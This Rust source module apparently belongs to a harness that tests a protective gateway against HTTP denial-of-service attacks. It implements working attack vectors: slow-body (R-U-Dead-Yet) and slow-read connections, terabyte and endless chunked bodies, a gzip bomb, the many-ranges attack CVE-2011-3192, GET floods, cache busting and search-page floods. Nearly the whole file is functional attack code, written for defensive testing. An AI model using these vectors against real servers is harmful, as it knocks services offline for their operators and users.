//! Vectors that use bodies of requests and responses, or expensive pages.

use std::io::Write;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::io::AsyncReadExt;
use tokio::time::timeout_at;

use super::connections::{get_request, request_loop};
use super::context::{Attacker, End, bounded_sleep};
use super::heads::open;
use super::http_1::{count_status, drip, hold, parse_status, write};

/// A body of a megabyte is announced and comes a byte a second (R-U-Dead-Yet).
pub(super) async fn slow_body(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let head = format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 1000000\r\n\r\n",
        attacker.path(),
        attacker.host()
    );
    attacker.count_requests(1);
    let bytes = std::iter::repeat_n(b"a".to_vec(), 1_000_000);
    let parts = std::iter::once(head.into_bytes()).chain(bytes);
    drip(&attacker, &mut stream, parts, Duration::from_secs(1)).await
}

/// Asks for pages and takes a byte of them each second, out of a receive buffer of 2 kB. What is
/// answered with a word instead of a page (a challenge, a refusal) is no page to read slowly: the
/// gate has long got rid of it, and the attacker tries again.
pub(super) async fn slow_read(attacker: Attacker) -> End {
    // The kernel doubles the requested size, and this is the least that it grants.
    let Some(mut stream) = attacker.open_with(Some(1_152)).await else {
        return End::NotOpened;
    };
    let head = get_request(&attacker, attacker.path());
    let heads = head.repeat(8);
    attacker.count_requests(8);
    if let Err(end) = write(&attacker, &mut stream, heads.as_bytes()).await {
        return end;
    }
    // Nothing at all at first: bytes in the buffers on the way are not progress.
    let mut first = Vec::new();
    while attacker.may_continue() {
        bounded_sleep(&attacker, Duration::from_secs(1)).await;
        let mut byte = [0];
        match timeout_at(attacker.end(), stream.read(&mut byte)).await {
            Ok(Ok(1)) if first.len() < 12 => {
                first.push(byte[0]);
                if first.len() == 12 {
                    count_status(&attacker, &first);
                    if !matches!(parse_status(&first), Some(200..300)) {
                        return End::Finished;
                    }
                }
            }
            Ok(Ok(1)) => {}
            Ok(Ok(_) | Err(_)) => return End::Closed,
            Err(_) => return End::Held,
        }
        // A cut connection gives an error, but only after the bytes that had arrived.
        if is_reset(&stream) {
            return End::Closed;
        }
    }
    End::Held
}

/// Whether the other end has given the connection up, as the kernel knows it.
fn is_reset(stream: &super::dial::ClientStream) -> bool {
    let tcp = match stream {
        super::dial::ClientStream::Plain(tcp) => tcp,
        super::dial::ClientStream::Tls(tls) => tls.get_ref().0,
    };
    matches!(tcp.take_error(), Ok(Some(_)) | Err(_))
}

/// Bodies beyond any limit, in two forms by place: announced as a terabyte, or in chunks that never
/// end. Two of sixteen send more than the gate grants, once, the others four megabytes a turn: more
/// would be about the machine's speed.
pub(super) async fn large_body(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let (path, host) = (attacker.path(), attacker.host());
    attacker.count_requests(1);
    if attacker.slot.is_multiple_of(2) {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1099511627776\r\n\r\n"
        );
        if let Err(end) = write(&attacker, &mut stream, head.as_bytes()).await {
            return end;
        }
        return hold(&attacker, &mut stream).await;
    }
    let head =
        format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n");
    let mut chunk = b"10000\r\n".to_vec();
    chunk.extend(std::iter::repeat_n(b'a', 0x10000));
    chunk.extend(b"\r\n");
    let beyond = usize::try_from(attacker.gate_limits().body_bytes() >> 16).unwrap_or(usize::MAX);
    let once = attacker.attempt == 0 && attacker.slot % 8 == 1;
    // A rehearsal's budget ends it where a gate grants more than that.
    let chunks = std::iter::repeat_n(chunk, if once { beyond.saturating_add(16) } else { 64 });
    let parts = std::iter::once(head.into_bytes()).chain(chunks);
    drip(&attacker, &mut stream, parts, Duration::ZERO).await
}

/// Ten megabytes of zeros in ten kilobytes. A server that decompresses request bodies pays for it.
pub(super) async fn gzip_bomb(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let body = bomb();
    let head = format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        attacker.path(),
        attacker.host(),
        body.len()
    );
    let mut request = head.into_bytes();
    request.extend(body);
    for _ in 0..20 {
        attacker.count_requests(1);
        if let Err(end) = write(&attacker, &mut stream, &request).await {
            return end;
        }
        match super::http_1::read(&attacker, &mut stream, attacker.end(), true).await {
            Ok(0) => return End::Held,
            Ok(_) => {}
            Err(end) => return end,
        }
    }
    End::Finished
}

fn bomb() -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    let zeros = [0; 16 * 1024];
    for _ in 0..640 {
        // Writing to memory does not fail.
        let _ = packed.write_all(&zeros);
    }
    packed.finish().unwrap_or_default()
}

/// Thirteen hundred ranges of one page, each over all of it but a byte (CVE-2011-3192).
pub(super) async fn many_ranges(attacker: Attacker) -> End {
    let ranges: Vec<String> = (0..1_300).map(|n| format!("{n}-")).collect();
    let ranges = ranges.join(",");
    request_loop(&attacker, Duration::from_millis(100), 50, |_| {
        format!(
            "GET {} HTTP/1.1\r\nHost: {}\r\nRange: bytes={ranges}\r\n\r\n",
            attacker.path(),
            attacker.host()
        )
    })
    .await
}

/// The same page again and again, as fast as it comes, fifty times a second and connection.
pub(super) async fn get_flood(attacker: Attacker) -> End {
    request_loop(&attacker, FLOOD, u32::MAX, |_| get_request(&attacker, attacker.path())).await
}

/// The same page under an address that no cache has ever seen.
pub(super) async fn cache_busting(attacker: Attacker) -> End {
    request_loop(&attacker, FLOOD, u32::MAX, |round| {
        let number = attacker.unique_number(round).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        get_request(&attacker, &format!("{}?x={number:x}", attacker.path()))
    })
    .await
}

/// What costs the origin most: searches, each for something else.
pub(super) async fn expensive_pages(attacker: Attacker) -> End {
    request_loop(&attacker, FLOOD, u32::MAX, |round| {
        let number = attacker.unique_number(round).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        get_request(&attacker, &format!("/search?q={number:x}"))
    })
    .await
}

const FLOOD: Duration = Duration::from_millis(20);

#[cfg(test)]
mod tests {
    #[test]
    fn the_bomb_is_small_and_bursts_to_ten_megabytes() {
        let bomb = super::bomb();
        assert!(bomb.len() < 16 * 1024, "{}", bomb.len());
        let mut unpacked = Vec::new();
        let mut reader = flate2::read::GzDecoder::new(&bomb[..]);
        std::io::Read::read_to_end(&mut reader, &mut unpacked).unwrap();
        assert_eq!(unpacked.len(), 10 * 1024 * 1024);
    }
}
